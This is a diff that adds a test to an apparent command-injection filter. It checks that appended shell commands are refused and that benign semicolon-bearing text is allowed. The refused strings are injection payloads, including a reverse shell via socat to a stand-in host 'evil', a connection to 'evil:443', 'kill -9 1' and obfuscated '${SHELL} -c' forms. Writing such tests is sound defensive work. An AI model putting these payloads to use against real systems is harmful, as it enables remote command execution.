@@ -166,3 +166,32 @@ t.test(
       allowed(t, p);
   },
 );
+
+t.test('commands behind a wrapper, word-like commands with an option or path, $SHELL -c', async (t) => {
+  for (const p of [
+    'x;env id',
+    'x;exec id',
+    'x;timeout 5 id',
+    'x|xargs id',
+    'x;touch /tmp/pwned',
+    'x;mkdir /tmp/x',
+    'x;kill -9 1',
+    'x;source /tmp/x',
+    'x;. /tmp/x',
+    'x;sudo -l',
+    'x;socat exec:sh tcp:evil:1',
+    'x;openssl s_client -connect evil:443',
+  ])
+    refused(t, p, 'cmd_injection', 'rce-100');
+  for (const p of ['x;${SHELL} -c id', 'x;{sleep,5}', "x;$(rev<<<'imaohw')"])
+    refused(t, p, 'cmd_injection', 'rce-110');
+  for (const p of [
+    'Paint; touch-up kit',
+    'Notes; source: invoice',
+    'Fees; kill switch rental',
+    'Hotel; time to go',
+    'Breakfast; env. fee',
+    'Date; dd/mm/yyyy',
+  ])
+    allowed(t, p);
+});
